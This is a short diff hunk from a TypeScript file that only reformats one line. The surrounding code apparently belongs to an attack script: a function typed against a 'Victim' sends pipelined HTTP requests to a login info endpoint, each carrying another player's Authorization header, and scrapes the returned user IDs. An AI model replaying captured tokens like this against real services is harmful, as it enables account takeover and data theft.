@@ -109,7 +109,9 @@ async function pipeline({ port, host, players }: Victim, count: number): Promise
     const player = players[n % players.length];
     names.push(player?.playerId ?? '');
     const isLast = n === count - 1;
-    bytes += `GET /util/login/get_user_info?client_id=70021 HTTP/1.1\r\nHost: ${host}\r\nAuthorization: ${player?.headers['authorization']}\r\n${isLast ? 'Connection: close\r\n' : ''}\r\n`;
+    bytes +=
+      `GET /util/login/get_user_info?client_id=70021 HTTP/1.1\r\nHost: ${host}\r\nAuthorization: ` +
+      `${player?.headers['authorization']}\r\n${isLast ? 'Connection: close\r\n' : ''}\r\n`;
   }
   const { text } = await exchange(port, bytes, 20_000);
   const suids = [...text.matchAll(/"suid":"([^"]+)"/g)].map(([, suid]) => suid ?? '');
